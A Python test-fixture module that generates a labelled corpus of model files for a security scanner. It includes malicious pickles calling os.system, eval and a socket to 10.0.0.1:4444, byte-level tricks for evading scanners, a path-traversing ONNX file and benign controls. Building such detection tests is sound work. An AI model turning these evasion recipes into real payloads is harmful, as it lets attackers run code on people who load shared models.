"""A labelled corpus of model artifacts, generated in memory: classic attacks, scanner evasions, benign models.

Nothing here is copied from another project: each file is built at run time with ``pickle``,
``zipfile``, ``numpy``, ``joblib`` and scikit-learn, or opcode by opcode with :class:`Opcodes` where
the attack needs bytes no pickler writes (memo tricks, computed names, broken archives). The payloads
only name their callables (``os.system``, ``eval`` ...): nothing here is ever unpickled.

* ``classic``: what a plain malicious pickle looks like (10 files, one per well-known gadget);
* ``evasion``: one file per class of trick that public scanners were shown to miss (14);
* ``format``: attacks through the other formats (Keras Lambda, ONNX paths, safetensors headers, tar);
* ``benign``: arrays and models as numpy, scikit-learn, joblib and PyTorch write them (no finding
  of warning level or above is acceptable on these).
"""

from __future__ import annotations

import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass

import numpy as np

__all__ = ["Artifact", "Opcodes", "corpus", "torch_zip_with"]


@dataclass(frozen=True)
class Artifact:
    name: str
    kind: str  # classic | evasion | format | benign
    data: bytes
    what: str


class Opcodes:
    """Writes pickle opcodes one by one, for payloads no pickler produces."""

    def __init__(self, protocol: int = 4) -> None:
        self.out = bytearray(b"\x80" + bytes([protocol])) if protocol >= 2 else bytearray()

    def raw(self, data: bytes) -> Opcodes:
        self.out += data
        return self

    def text(self, value: str) -> Opcodes:
        encoded = value.encode()
        return self.raw(b"\x8c" + bytes([len(encoded)]) + encoded)

    def data(self, value: bytes) -> Opcodes:
        return self.raw(b"B" + struct.pack("<I", len(value)) + value)

    def glob(self, module: str, name: str) -> Opcodes:
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def call(self, *texts: str) -> Opcodes:
        """Push ``texts`` as a tuple and REDUCE the callable below them."""
        self.raw(b"(")
        for value in texts:
            self.text(value)
        return self.raw(b"tR")

    def done(self) -> bytes:
        return bytes(self.out + b".")


def _pickled(module: str, name: str, *args: str, protocol: int = 2) -> bytes:
    if protocol < 2:
        out = b"c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(
            b"S" + repr(a).encode() + b"\n" for a in args) + b"tR."
        return out
    return Opcodes(protocol).glob(module, name).call(*args).done()


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _torch_pickle(payload: bytes | None = None) -> bytes:
    """A state dict as PyTorch writes it: OrderedDict of tensors rebuilt from persistent storages."""
    w = Opcodes(2).glob("collections", "OrderedDict").raw(b")R")
    w.raw(b"q\x00")
    for index, key in enumerate(("weight", "bias")):
        w.text(key).glob("torch._utils", "_rebuild_tensor_v2").raw(b"(")
        w.raw(b"(").text("storage").glob("torch", "FloatStorage").text(str(index)).text("cpu").raw(b"K\x04tQ")
        w.raw(b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89").glob("collections", "OrderedDict").raw(b")RtR")
        w.raw(b"s")
    if payload is not None:
        w.raw(payload[2:-1]).raw(b"0")  # one more object built while loading, then dropped
    return w.done()


def _torch_zip(pickle_bytes: bytes, prefix: str = "archive") -> bytes:
    return _zip({f"{prefix}/data.pkl": pickle_bytes, f"{prefix}/byteorder": b"little",
                 f"{prefix}/data/0": np.arange(4, dtype="<f4").tobytes(), f"{prefix}/data/1": np.ones(4, "<f4").tobytes(),
                 f"{prefix}/version": b"3\n", f"{prefix}/.data/serialization_id": b"1234567890"})


def torch_zip_with(tensor: bytes) -> bytes:
    """A benign PyTorch-style checkpoint whose one storage holds ``tensor`` (for timing large files)."""
    return _zip({"archive/data.pkl": _torch_pickle(), "archive/data/0": tensor, "archive/version": b"3\n"})


def _bad_crc(archive: bytes) -> bytes:
    """Zero every CRC field, local and central: Python's zipfile then refuses to read the members."""
    out = bytearray(archive)
    for signature, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        start = out.find(signature)
        while start >= 0:
            out[start + at:start + at + 4] = b"\x00\x00\x00\x00"
            start = out.find(signature, start + 4)
    return bytes(out)


def _broken_directory(archive: bytes) -> bytes:
    """Point the end-of-central-directory record at garbage: only local headers can be read."""
    out = bytearray(archive)
    end = out.rfind(b"PK\x05\x06")
    out[end + 16:end + 20] = struct.pack("<I", 7)
    return bytes(out)


def _npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _joblib(value: object, compress: object) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress)
    return buffer.getvalue()


def _with_payload(benign: bytes, payload: bytes) -> bytes:
    """``benign`` pickle whose first object is replaced by a tuple (payload, benign object)."""
    body = benign[2:-1] if benign[:1] == b"\x80" else benign[:-1]
    return bytes(b"\x80\x02" + payload[2:-1] + body + b"\x86.")


def _classic() -> list[Artifact]:
    getattr_chain = (Opcodes(2).glob("builtins", "getattr").raw(b"(").glob("builtins", "__import__").call("os")
                     .text("system").raw(b"tR").call("id").done())
    return [
        Artifact("os_system_p0.pkl", "classic", _pickled("os", "system", "id", protocol=0), "os.system via REDUCE, protocol 0"),
        Artifact("posix_system_p4.pkl", "classic", Opcodes(4).text("posix").text("system").raw(b"\x93").call("id").done(),
                 "posix.system via STACK_GLOBAL"),
        Artifact("subprocess_popen.pkl", "classic", _pickled("subprocess", "Popen", "id"), "subprocess.Popen"),
        Artifact("builtins_eval.pkl", "classic", _pickled("builtins", "eval", "__import__('os').system('id')"), "eval"),
        Artifact("builtins_exec.pkl", "classic", _pickled("builtins", "exec", "import os; os.system('id')"), "exec"),
        Artifact("getattr_chain.pkl", "classic", getattr_chain, "getattr(__import__('os'), 'system')('id')"),
        Artifact("dunder_import.pkl", "classic", _pickled("builtins", "__import__", "os"), "__import__"),
        Artifact("runpy.pkl", "classic", _pickled("runpy", "_run_code", "import os", "{}"), "runpy._run_code"),
        Artifact("socket.pkl", "classic", _pickled("socket", "create_connection", "10.0.0.1:4444"), "a socket"),
        Artifact("torch_os_system.pt", "classic", _torch_zip(_torch_pickle(_pickled("os", "system", "id"))),
                 "a PyTorch zip whose data.pkl also calls os.system"),
    ]


def _evasions() -> list[Artifact]:
    evil = _pickled("os", "system", "id")
    memo = (Opcodes(4).text("posix").raw(b"\x94").text("decoy").raw(b"\x94").text("system").raw(b"\x94")
            .raw(b"0").raw(b"0").raw(b"0")  # drop all three: only the memo holds the names now
            .raw(b"h\x00h\x02\x93").call("id").done())
    memo_text = (Opcodes(0).raw(b"S'os'\np7\n0S'system'\np8\n0").raw(b"\x80\x04").raw(b"g7\ng8\n\x93")
                 .call("id").done())
    computed = (Opcodes(4).glob("_codecs", "encode").call("bf", "rot13").text("system").raw(b"\x93").call("id").done())
    dotted = Opcodes(4).text("posixpath").text("os.system").raw(b"\x93").call("id").done()
    inst = b"(S'id'\nios\nsystem\n."
    nested = Opcodes(2).glob("torch.storage", "_load_from_bytes").raw(b"(").data(evil).raw(b"tR").done()
    torch_evil = _torch_zip(_torch_pickle(evil))
    odd = _zip({"model/../weights\\data.pkl": _torch_pickle(evil), "model/version": b"3\n"})
    benign_model = pickle.dumps({"coef": np.arange(3.0)}, protocol=4)
    joblib_zlib = zlib.compress(_with_payload(benign_model, evil))
    joblib_xz = lzma.compress(_with_payload(benign_model, evil), format=lzma.FORMAT_ALONE)
    object_npy = _object_npy(evil)
    return [
        Artifact("weights.txt", "evasion", evil, "a pickle under a non-model extension"),
        Artifact("nested.pkl", "evasion", nested, "a pickle nested in a pickle's bytes (loaded by torch.storage._load_from_bytes)"),
        Artifact("model.joblib.z", "evasion", joblib_zlib, "zlib-compressed (joblib 'zlib') pickle"),
        Artifact("model.joblib.lzma", "evasion", joblib_xz, "lzma-alone-compressed (joblib 'lzma') pickle"),
        Artifact("model.pt.gz", "evasion", gzip.compress(evil), "gzip-wrapped pickle"),
        Artifact("memo_stack_global.pkl", "evasion", memo, "STACK_GLOBAL names fetched from the memo, stack emptied first"),
        Artifact("memo_text.pkl", "evasion", memo_text, "protocol 0 PUT/GET names for a STACK_GLOBAL"),
        Artifact("computed_name.pkl", "evasion", computed, "module name computed at load time (rot13)"),
        Artifact("bad_crc.pt", "evasion", _bad_crc(torch_evil), "PyTorch zip with zeroed CRCs"),
        Artifact("broken_directory.pt", "evasion", _broken_directory(torch_evil), "PyTorch zip with a broken central directory"),
        Artifact("inst_p0.pkl", "evasion", inst, "protocol 0 INST"),
        Artifact("odd_names.pt", "evasion", odd, "PyTorch zip with odd member names"),
        Artifact("object.npy", "evasion", object_npy, "object .npy holding a malicious element"),
        Artifact("dotted_name.pkl", "evasion", dotted, "posixpath + 'os.system': a dotted attribute path"),
    ]


def _object_npy(payload: bytes) -> bytes:
    """An object .npy whose data is ``payload`` (a valid header, then the pickle numpy would load)."""
    header = _npy(np.array([None], dtype=object))
    length = int.from_bytes(header[8:10], "little")
    return header[:10 + length] + payload


def _formats() -> list[Artifact]:
    lambda_config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
        {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}},
        {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lam", "function": {
            "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]}}
    h5 = b"\x89HDF\r\n\x1a\n" + bytes(100) + json.dumps({"class_name": "Functional", "config": {"layers": [
        {"class_name": "Lambda", "config": {"name": "l", "function": "x"}, "function_type": "lambda"}]}}).encode() + bytes(50)
    header = json.dumps({"w": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 4000000]}}).encode()
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w") as archive:
        for name, data in (("sys_info", pickle.dumps({"little_endian": True})), ("pickle", _pickled("os", "system", "id"))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return [
        Artifact("lambda.keras", "format", _zip({"config.json": json.dumps(lambda_config).encode(),
                                                  "metadata.json": b"{}"}), "Keras v3 archive with a Lambda layer"),
        Artifact("lambda.h5", "format", h5, "legacy H5 model_config with a Lambda layer"),
        Artifact("escape.onnx", "format", _onnx("../../etc/passwd"), "ONNX external data outside the folder"),
        Artifact("lying.safetensors", "format", struct.pack("<Q", len(header)) + header + bytes(16),
                 "safetensors header claiming 4 MB of data in a 16-byte file"),
        Artifact("legacy.tar", "format", tar_buffer.getvalue(), "legacy PyTorch tar with a malicious pickle"),
    ]


def _field(number: int, payload: bytes) -> bytes:
    def varint(value: int) -> bytes:
        out = bytearray()
        while True:
            out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
            value >>= 7
            if not value:
                return bytes(out)
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def _onnx(location: str) -> bytes:
    """A minimal ModelProto: ir_version 9, one graph with one externally stored initializer."""
    entry = _field(1, b"location") + _field(2, location.encode())
    tensor = _field(8, b"weight") + _field(13, entry) + b"\x70\x01"  # data_location = EXTERNAL
    graph = _field(2, b"g") + _field(5, tensor)
    return b"\x08\x09" + _field(2, b"foresight-tests") + _field(7, graph)


def _benign() -> list[Artifact]:
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    forest = make_pipeline(StandardScaler(), RandomForestClassifier(n_estimators=3, random_state=0)).fit(x, y)
    logistic = LogisticRegression().fit(x, y)
    npz = io.BytesIO()
    np.savez_compressed(npz, a=np.arange(10.0), b=np.eye(3, dtype=np.int32))
    structured = np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,))])
    header = json.dumps({"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}).encode()
    keras = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
        {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}]}}
    return [
        Artifact("float.npy", "benign", _npy(np.arange(100.0)), "float array"),
        Artifact("structured.npy", "benign", _npy(structured), "structured array"),
        Artifact("arrays.npz", "benign", npz.getvalue(), "compressed npz"),
        Artifact("ints_object.npy", "benign", _npy(np.array([1, "a", None], dtype=object)), "object array of plain values"),
        *(Artifact(f"array_p{p}.pkl", "benign", pickle.dumps(np.arange(12.0).reshape(3, 4), protocol=p), f"pickled array, protocol {p}")
          for p in range(6)),
        Artifact("forest.pkl", "benign", pickle.dumps(forest), "scikit-learn pipeline (pickle)"),
        Artifact("logistic.pkl", "benign", pickle.dumps(logistic, protocol=2), "scikit-learn logistic regression, protocol 2"),
        Artifact("forest.joblib", "benign", _joblib(forest, 0), "scikit-learn pipeline (joblib)"),
        *(Artifact(f"forest.joblib.{method}", "benign", _joblib(forest, (method, 3)), f"joblib, {method}")
          for method in ("zlib", "gzip", "bz2", "xz", "lzma")),
        Artifact("state_dict.pt", "benign", _torch_zip(_torch_pickle()), "PyTorch state dict (zip written by hand)"),
        Artifact("model.safetensors", "benign", struct.pack("<Q", len(header)) + header + bytes(24), "safetensors"),
        Artifact("model.onnx", "benign", _onnx("weights.bin"), "ONNX with external data beside it"),
        Artifact("model.keras", "benign", _zip({"config.json": json.dumps(keras).encode()}), "Keras archive without Lambda"),
        Artifact("plain.pkl", "benign", pickle.dumps({"a": [1, 2.5, "x"], "b": (True, None), "c": {1, 2}}), "plain data"),
    ]


def corpus() -> list[Artifact]:
    """Every artifact of the corpus, in a stable order."""
    return [*_classic(), *_evasions(), *_formats(), *_benign()]
